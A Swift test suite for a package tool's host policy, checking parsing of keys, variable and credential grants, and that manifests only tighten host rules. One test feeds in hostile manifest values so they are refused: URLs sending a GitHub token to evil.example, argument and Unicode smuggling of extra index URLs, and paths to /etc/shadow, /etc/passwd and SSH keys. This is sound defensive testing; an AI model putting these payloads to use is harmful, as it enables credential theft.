import Glibc
import Manifests
import Model
import TestSupport
import Testing

@Suite struct HostPolicyTests {
  private func host(_ spec: String) -> String {
    let lines = spec.split(separator: "\n", omittingEmptySubsequences: false).map { "  \($0)\n" }.joined()
    return "apiVersion: pinion/v1\nkind: HostPolicy\nspec:\n" + lines
  }

  @Test func readsEveryKey() throws {
    let text = host(
      """
      policy: {pinned: require, builds: deny, sources: {deny: [left-pad]}, excludeNewer: 3d}
      keys:
        - {name: release, key: ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ someone}
        - {name: team, file: keys/team.asc}
      variables:
        - {match: "GITHUB_*", hosts: [github.com, "*.example.com"]}
        - {match: APP_ROOT}
      credentialFiles:
        - {match: "/run/secrets/*", hosts: [github.com]}
      hooks: deny
      """)
    let fixture = try ManifestFixture(["host.yaml": text])
    try fixture.takeHost("host.yaml")
    let policy = try #require(fixture.host)
    #expect(policy.file == "host.yaml")
    #expect(policy.policy.pinned?.value == .require && policy.policy.builds?.value == .deny)
    #expect(policy.policy.excludeNewer?.value == ExcludeNewer(age: 3 * 86_400))
    #expect(policy.policy.sources?.value.deny.map(\.text) == ["left-pad"])
    #expect(policy.policy.downgrade == nil)
    #expect(policy.keys.map(\.name) == ["release", "team"])
    #expect(policy.keys[0].source == .text("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ someone"))
    #expect(policy.keys[1].source == .file("\(fixture.directory)/keys/team.asc"))
    #expect(policy.variables?.map(\.match.text) == ["GITHUB_*", "APP_ROOT"])
    #expect(policy.variables?.map { $0.hosts?.map(\.text) } == [["github.com", "*.example.com"], nil])
    #expect(policy.credentialFiles?.map(\.match.text) == ["/run/secrets/*"])
    #expect(policy.hooks?.value == .deny)
  }

  @Test func isNotNeededAndIsNeededWhenNamed() throws {
    let fixture = try ManifestFixture()
    let failure = try #require(throws: Failure.self) { try fixture.takeHost("nowhere.yaml") }
    #expect(failure.diagnostics.first?.message == "there is no host policy 'nowhere.yaml'")
    try fixture.write(Array(moduleSet("modules: {}").utf8), "pinion.yaml")
    try fixture.write(Array(host("hooks: deny").utf8), "host.yaml")
    try #require(symlink("loop", "\(fixture.directory)/loop") == 0)
    #expect(throws: Failure.self) { try fixture.takeHost("loop") }
    // It is no manifest, and does no harm among manifests.
    #expect(fixture.complaints("host.yaml").contains("this is a host's file, and declares no environment"))
    #expect(try fixture.load(".").environments.map(\.name) == ["test"])
  }

  /// Every complaint about host files, on record in `Snapshots/host-complaints.txt`.
  @Test func complaintsAreOnRecord() throws {
    let texts = [
      "", "a: b: c", "apiVersion: pinion/v1\nkind: HostPolicy", "apiVersion: pinion/v2\nkind: HostPolicies\nspec: {}",
      "[a]", host("hooks: deny") + "---\nsecond: 1\n", host("rules: {}"), host("policy: {pinned: \"${LEVEL}\"}"),
      host("hooks: maybe"), host("variables: GITHUB_TOKEN"), host("variables: [{hosts: [a]}]"),
      host("variables: [{match: \"A-B\"}]"), host("variables: [{match: A, host: x}]"),
      host("variables: [{match: A, hosts: [\"https://a.example.com\"]}]"),
      host("credentialFiles: [{match: secrets/*}]"),
      host("credentialFiles: [{match: /run/../etc/*}]"), host("keys: [{name: a}]"),
      host("keys: [{key: ssh-ed25519 A}]"),
      host("keys: [{name: a, key: ssh-ed25519 A, file: /k}]"), host("keys: [{name: a, key: nonsense-value}]"),
      host("keys: [{name: a, key: \"-----BEGIN OPENSSH PRIVATE KEY-----\\nhidden-part\"}]"),
      host("keys: [{name: a, file: /k}, {name: a, file: /l}]"),
    ]
    var record = ""
    for text in texts {
      let fixture = try ManifestFixture(["host.yaml": text])
      do throws(Failure) {
        try fixture.takeHost("host.yaml")
        Issue.record("it was read:\n\(text)")
      } catch {
        let said = error.diagnostics.map(fixture.rendered).joined(separator: "\n")
        #expect(!said.contains("hidden-part") && !said.contains("nonsense-value"))
        record +=
          "# \(text.replacing("apiVersion: pinion/v1\nkind: HostPolicy\nspec:\n", with: "").split(separator: "\n").joined(separator: " / "))\n\(said)\n\n"
      }
    }
    let snapshot = Snapshot("host-complaints", beside: #filePath)
    #expect(try snapshot.text(orRecord: record) == record)
  }

  // MARK: keys

  /// The names of the keys that a manifest's rule comes to; what is said where it is refused.
  private func keys(_ verify: String, host keys: String) throws -> (names: [String], complaints: String) {
    let fixture = try ManifestFixture(["pinion.yaml": moduleSet("git: {verify: \(verify)}"), "host.yaml": host(keys)])
    try fixture.takeHost("host.yaml")
    let complaints = fixture.complaints()
    guard complaints.hasPrefix("loaded:") else { return ([], complaints) }
    return (try fixture.load("pinion.yaml").environments[0].signatures.keys.map(\.name), "")
  }

  private static let hostKeys = "keys: [{name: release, key: ssh-ed25519 AAAA}, {name: team, file: /etc/team.asc}]"

  @Test(arguments: [
    ("{mode: commit}", ["release", "team"]), ("{mode: tag, keys: [team]}", ["team"]),
    ("{mode: commit, keys: [{name: mine, key: ssh-ed25519 AAAA}]}", ["mine"]),
    ("{mode: commit, keys: [release, {name: other, file: /etc/team.asc}]}", ["release", "other"]),
  ])
  func theHostsKeysAreThoseThatCount(_ verify: String, _ names: [String]) throws {
    #expect(try keys(verify, host: Self.hostKeys).names == names)
  }

  @Test func otherKeysAreRefused() throws {
    var record = ""
    for (verify, host) in [
      ("{mode: commit, keys: [{name: mine, key: ssh-ed25519 BBBB}]}", Self.hostKeys),
      ("{mode: commit, keys: [releese]}", Self.hostKeys), ("{mode: commit, keys: [release]}", "hooks: deny"),
      ("{mode: commit}", "hooks: deny"),
    ] {
      let (names, complaints) = try keys(verify, host: host)
      #expect(names == [])
      record += "# \(host)\n# \(verify)\n\(complaints)\n\n"
    }
    let snapshot = Snapshot("host-keys", beside: #filePath)
    #expect(try snapshot.text(orRecord: record) == record)
  }

  // MARK: variables and files

  private static let grants = """
    variables:
      - {match: "GITHUB_*", hosts: [github.com, "*.example.com"]}
      - {match: ROOT}
      - {match: WORDS}
    credentialFiles:
      - {match: "/run/secrets/*", hosts: [github.com]}
      - {match: "/run/any/**"}
    """

  @Test(arguments: [
    "modules: {a: {module: a, pip_name: \"git+https://${GITHUB_TOKEN}@github.com/o/r.git\"}}",
    "modules: {a: {module: a, pip_name: \"git+https://${GITHUB_TOKEN}@git.example.com:8443/o/r.git\"}}",
    "modules: {a: {module: a, pip_name: \"a --index-url https://u:${GITHUB_TOKEN}@p.example.com/simple\"}}",
    "modules: {a: {module: a, pip_name: \"${GITHUB_REPO}\"}}",
    "modules: {a: {module: a, pip_name: \"git+git@github.com:${GITHUB_ORG}/r.git#egg=${GITHUB_ORG}\"}}",
    "modules: {a: {module: a, pip_name: \"a @ git+https://github.com/${GITHUB_ORG}/r.git@${GITHUB_ORG:-v1} ; os_name == '${ROOT}'\"}}",
    "modules: {a: {module: a, pip_name: \"a${WORDS}${GITHUB_TOKEN}@p.example.com/simple\"}}",
    "pythonPath: [\"${ROOT}/lib\"]",
    "indexes: [{name: a, url: \"https://${GITHUB_TOKEN}@p.example.com/simple\"}]",
    "indexes: [{name: a, url: https://p.example.com/simple, token: \"${GITHUB_TOKEN}\"}]",
    "git: {credentials: [{host: github.com, tokenFile: /run/secrets/t}]}",
    "git: {credentials: [{host: \"*.example.com\", token: \"${GITHUB_TOKEN}\"}]}",
    "git: {credentials: [{host: \"*.eu.example.com\", token: \"${GITHUB_TOKEN}\"}]}",
    "git: {credentials: [{host: anywhere.example.org, tokenFile: /run/any/where/t}]}",
  ])
  func whatIsListedMayBeUsed(spec: String) throws {
    let fixture = try ManifestFixture(["pinion.yaml": moduleSet(spec), "host.yaml": host(Self.grants)])
    fixture.variables = [
      "GITHUB_TOKEN": "ghp_0123", "ROOT": "/srv", "GITHUB_REPO": "git+https://github.com/o/r.git@v1",
      "GITHUB_ORG": "org",
      "WORDS": " --index-url https://u:",
    ]
    try fixture.takeHost("host.yaml")
    #expect(fixture.complaints() == "loaded: [\"test\"]")
  }

  /// What is refused, on record in `Snapshots/host-breaches.txt`. No value shows, whatever it was used for.
  @Test func whatIsNotListedIsRefused() throws {
    let specs = [
      "modules: {a: {module: a, pip_name: \"git+https://${OTHER}@github.com/o/r.git\"}}",
      "modules: {a: {module: a, pip_name: \"git+https://${GITHUB_TOKEN}@evil.example/o/r.git\"}}",
      "modules: {a: {module: a, pip_name: \"git+https://github.com@evil.example/${GITHUB_TOKEN}/r.git\"}}",
      "modules: {a: {module: a, pip_name: \"git+https://${OTHER}.evil.example/o/r.git\"}}",
      "modules: {a: {module: a, pip_name: \"git+https://github.com/o/r.git?x=${ROOT}&y=${OTHER:-z}\"}}",
      "modules: {a: {module: a, pip_name: \"a==${GITHUB_TOKEN}\"}}",
      "modules: {a: {module: a, pip_name: \"a --index-url https://${GITHUB_TOKEN}@p.example.org/simple\"}}",
      "modules: {a: {module: a, pip_name: \"git+git@evil.example:${GITHUB_TOKEN}/r.git\"}}",
      // What was written as one URL is two when it is read, or the other way round.
      "modules: {a: {module: a, pip_name: \"a -i https://github.com/x${GITHUB_NO:- -f http://u:}${GITHUB_TOKEN}@evil.example/\"}}",
      "modules: {a: {module: a, pip_name: \"a -i https://github.com/x${WORDS}${GITHUB_TOKEN}@evil.example/simple\"}}",
      "modules: {a: {module: a, pip_name: \"a -i https://github.com/x$${ -f http://u:${GITHUB_TOKEN}@evil.example/\"}}",
      "modules: {a: {module: a, pip_name: \"a @ http://evil.example/a-1-py3-none-any.whl?\\u00a0://github.com/${GITHUB_TOKEN}\"}}",
      "modules: {a: {module: a, pip_name: \"http://evil.example/a-1.zip?\\u2003://github.com/${GITHUB_TOKEN}\"}}",
      "modules: {a: {module: a, pip_name: \"git+http://evil.example/r?\\u2003://github.com/${GITHUB_TOKEN}\"}}",
      "modules: {a: {module: a, pip_name: \"a -i https://github.com/e${ACCENT}/x\"}}",
      "modules: {a: {module: a, pip_name: \"a -i https://evil.example/${GITHUB_ORG:-org}\"}}",
      "modules: {a: {module: a, pip_name: \"${OTHER}==${NOWHERE}\"}}",
      "modules: {a: {module: a, pip_name: \"git+https://${GITHUB_TOKEN}.evil.example/r.git\"}}",
      "modules: {a: {module: \"${GITHUB_TOKEN}\"}}",
      "verification: {env: {A: \"${GITHUB_TOKEN}\"}}",
      "lock: {update: \"${OTHER}\"}",
      "indexes: [{name: a, url: \"https://${GITHUB_TOKEN}@p.example.org/simple\"}]",
      "indexes: [{name: a, url: https://p.example.org/simple, token: \"${GITHUB_TOKEN}\"}]",
      "indexes: [{name: a, url: https://github.com/simple, username: x, passwordFile: /etc/passwd}]",
      "git: {credentials: [{host: evil.example, token: \"${GITHUB_TOKEN}\"}]}",
      "git: {credentials: [{host: \"*.example.org\", token: \"${GITHUB_TOKEN}\"}]}",
      "git: {credentials: [{host: \"?.example.org\", token: \"${GITHUB_TOKEN}\"}]}",
      "git: {credentials: [{host: evil.example, tokenFile: /run/secrets/t}]}",
      "git: {credentials: [{host: github.com, tokenFile: /run/secrets/../../etc/shadow}]}",
      "git: {credentials: [{host: github.com, tokenFile: /run/secrets/deeper/t}]}",
      "git: {credentials: [{host: github.com, sshKey: /root/.ssh/id}]}",
    ]
    var record = ""
    for spec in specs {
      let fixture = try ManifestFixture(["pinion.yaml": moduleSet(spec), "host.yaml": host(Self.grants)])
      fixture.variables = [
        "GITHUB_TOKEN": "ghp-0123", "OTHER": "oth3r", "ROOT": "/srv", "WORDS": " --extra-index-url=https://u:",
        "ACCENT": "\u{301}x",
      ]
      try fixture.takeHost("host.yaml")
      let said = fixture.complaints()
      #expect(said.contains("error policyDenied"), "'\(spec)' was let through: \(said)")
      #expect(!said.contains("ghp-0123") && !said.contains("oth3r"))
      record += "# \(spec)\n\(said)\n\n"
    }
    let snapshot = Snapshot("host-breaches", beside: #filePath)
    #expect(try snapshot.text(orRecord: record) == record)
  }

  /// Two letters that have become one would move every place behind them.
  @Test func placesMustBeExact() throws {
    let fixture = try ManifestFixture([
      "pinion.yaml": moduleSet(
        "modules: {a: {module: a, pip_name: \"a -i https://github.com/e${ROOT}/${GITHUB_ORG}\"}}"),
      "host.yaml": host(Self.grants),
    ])
    fixture.variables = ["GITHUB_ORG": "org", "ROOT": "\u{301}x"]
    try fixture.takeHost("host.yaml")
    let said = fixture.complaints()
    #expect(
      said.hasPrefix("error policyDenied: `spec.modules.a.pip_name` has a mark that joins a variable's value to"),
      "\(said)")
  }

  @Test func anEmptyListListsNothing() throws {
    for spec in ["variables:", "variables: []"] {
      let fixture = try ManifestFixture([
        "pinion.yaml": moduleSet("pythonPath: [\"${ROOT}/lib\"]"), "host.yaml": host(spec),
      ])
      fixture.variables = ["ROOT": "/srv"]
      try fixture.takeHost("host.yaml")
      #expect(fixture.complaints().hasPrefix("error policyDenied: "))
    }
  }

  @Test func rulesOnContentOnlyTighten() throws {
    let fixture = try ManifestFixture([
      "m/a.yaml": moduleSet(
        "policy: {pth: allow, collisions: {packages: {x: warn}}, record: warn, unpacked: {size: 9GiB}}", name: "a"),
      "m/b.yaml": moduleSet("policy: {record: {packages: {x: warn, y: warn}}, unpacked: {ratio: 10}}", name: "b"),
      "host.yaml": host(
        "policy: {pth: warn, collisions: error, record: {packages: {y: error}}, unpacked: {size: 8GiB, ratio: 300}}"),
    ])
    try fixture.takeHost("host.yaml")
    let said = fixture.complaints("m").split(separator: "\n").filter { $0.hasPrefix("error") }
    #expect(
      said.map { $0.replacing(/\sat host\.yaml.*/, with: "") } == [
        "error policyDenied: `policy.pth: allow` is looser than the host's `pth: warn`",
        "error policyDenied: `policy.collisions: {packages: {x: warn}}` is looser than the host's `collisions: error`",
        "error policyDenied: `policy.record: warn` is looser than the host's `record: {packages: {y: error}}`",
        "error policyDenied: `policy.unpacked: {size: 9GiB}` is looser than the host's `unpacked: {size: 8GiB, ratio: 300}`",
        "error policyDenied: `policy.record: {packages: {x: warn, y: warn}}` is looser than the host's "
          + "`record: {packages: {y: error}}`",
      ])
  }

  @Test func rulesOnBuildsOnlyTighten() throws {
    let fixture = try ManifestFixture([
      "a.yaml": moduleSet("policy: {builds: allow, buildLimits: {memory: 8GiB, deadline: 5m}}", name: "a"),
      "b.yaml": moduleSet("policy: {builds: deny}", name: "b"),
      "host.yaml": host("policy: {builds: isolated, buildLimits: {memory: 2GiB, deadline: 10m}}"),
    ])
    try fixture.takeHost("host.yaml")
    let said = fixture.complaints("a.yaml").split(separator: "\n").filter { $0.hasPrefix("error") }
    #expect(
      said.map { $0.replacing(/\sat host\.yaml.*/, with: "") } == [
        "error policyDenied: `policy.builds: allow` is looser than the host's `builds: isolated`",
        "error policyDenied: `policy.buildLimits: {memory: 8GiB, deadline: 5m}` is looser than the host's "
          + "`buildLimits: {memory: 2GiB, deadline: 10m}`",
      ])
    let policy = try #require(try fixture.load("b.yaml").environments.first).policy
    #expect(policy.builds == .deny && policy.buildLimits == BuildLimits(memory: 2 << 30, deadline: 600))
    #expect(policy.places[.buildLimits]?.file == "host.yaml")
  }

  @Test func manifestsOnlyTighten() throws {
    let fixture = try ManifestFixture([
      "manifests/a.yaml": moduleSet(
        "policy: {pinned: warn, builds: allow, excludeNewer: 1d, downgrade: deny}", name: "a"),
      "manifests/b.yml": "pinion: {name: b}\nlinks:\n",
      "host.yaml": host("policy: {pinned: require, builds: deny, excludeNewer: 3d, impliedPackages: deny}"),
    ])
    try fixture.takeHost("host.yaml")
    #expect(
      fixture.complaints("manifests").split(separator: "\n").filter { !$0.hasPrefix("  |") }.joined(separator: "\n")
        == """
        error policyDenied: `policy.pinned: warn` is looser than the host's `pinned: require` at host.yaml:4:20
          at manifests/a.yaml:5:20
          because a manifest can make the host's rules stricter, and never looser
          hint: write 'pinned: require', or take the key out
        error policyDenied: `policy.builds: allow` is looser than the host's `builds: deny` at host.yaml:4:37
          at manifests/a.yaml:5:34
          because a manifest can make the host's rules stricter, and never looser
          hint: write 'builds: deny', or take the key out
        error policyDenied: `policy.excludeNewer: 1d` is looser than the host's `excludeNewer: 3d` at host.yaml:4:57
          at manifests/a.yaml:5:55
          because a manifest can make the host's rules stricter, and never looser
          hint: write 'excludeNewer: 3d', or take the key out
        """)
    // What a manifest does not state is tightened without a word.
    let policy = try #require(try fixture.load("manifests/b.yml").environments.first).policy
    #expect(policy.pinned == .require && policy.builds == .deny && policy.impliedPackages == .deny)
    #expect(policy.places[.builds]?.file == "host.yaml")
  }
}
